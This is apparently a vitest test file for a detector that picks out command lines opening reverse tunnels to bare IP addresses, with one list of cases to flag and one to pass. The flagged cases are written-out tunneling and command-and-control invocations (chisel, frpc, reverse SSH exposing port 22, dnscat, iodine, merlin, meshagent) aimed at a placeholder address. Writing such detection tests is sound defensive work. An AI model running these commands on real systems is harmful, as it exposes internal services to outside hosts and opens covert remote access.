import { describe, expect, it } from 'vitest';
import { doorOpenedTo } from './tunnel';

const to = (line: string): string => doorOpenedTo(line.split(' '));

describe('a door opened to an address without a name', () => {
  it.each([
    ['chisel client 203.0.113.9:8080 R:socks'],
    ['upd client https://203.0.113.9:443 R:2222:127.0.0.1:22'],
    ['frpc tcp --server_addr 203.0.113.9:7000 --local_port 22'],
    ['rs -connect 203.0.113.9:8443 -pass x'],
    ['./x tcp -s 203.0.113.9 -P 7000 -l 22 -r 6000'],
    ['gost -L=rtcp://:2222/:22 -F=relay+tls://203.0.113.9:443'],
    ['sshpass -p x ssh -N -R 2222:172.17.0.1:22 t@203.0.113.9'],
    ['ssh -o StrictHostKeyChecking=no -fNR 2222:localhost:22 t@203.0.113.9'],
    ['npc -server=203.0.113.9:8024 -vkey=abc -type=tcp'],
    ['agent -c 203.0.113.9:9999 -s key --reconnect 8'],
    ['./agent -connect 203.0.113.9:11601 -ignore-cert'],
    ['./a -s rssocks -d 203.0.113.9 -e 8888'],
    ['./v -rhost 203.0.113.9 -rport 9999'],
    ['./dnscat --dns server=203.0.113.9,port=53 --secret=aa'],
    ['meshagent --url=wss://203.0.113.9:443/agent.ashx'],
    ['wstunnel client -R tcp://2222:localhost:22 wss://203.0.113.9:443'],
    ['bore local 22 --to 203.0.113.9'],
    ['iox proxy -r 203.0.113.9:9999'],
    ['iodine -f -P x 203.0.113.9 t.example.org'],
    ['merlin -url https://203.0.113.9:443/ -psk x'],
  ])('%s', (line) => {
    expect(to(line)).toBe('203.0.113.9');
  });
  it.each([
    ['chisel client https://tunnel.example.org R:2222:host:22'],
    ['openssl s_client -connect 203.0.113.9:443 -pass pass:x'],
    ['chisel client 10.0.0.5:8080 R:socks'],
    ['chisel server --reverse --port 8080'],
    ['frpc -c /etc/frp/frpc.toml'],
    ['gost -L=:8080 -F=socks5://203.0.113.9:1080'],
    ['ssh -N -L 5432:localhost:5432 deploy@203.0.113.9'],
    ['ssh -N -R 8080:localhost:80 deploy@203.0.113.9'],
    ['ssh root@203.0.113.9'],
    ['mysql client 203.0.113.9:3306 r:1'],
    ['npc -server=nps.example.org:8024 -vkey=abc'],
    ['meshagent --installedByUser=0'],
    ['bore local 3000 --to bore.pub'],
    ['wstunnel client -L socks5://127.0.0.1:1080 wss://203.0.113.9:443'],
    ['redis-cli -h 203.0.113.9 -p 6379 -s x -c'],
    ['ligolo-proxy -selfcert -laddr 203.0.113.9:11601'],
    ['iperf3 -c 203.0.113.9 -t 30 -R'],
  ])('not %s', (line) => {
    expect(to(line)).toBe('');
  });
});
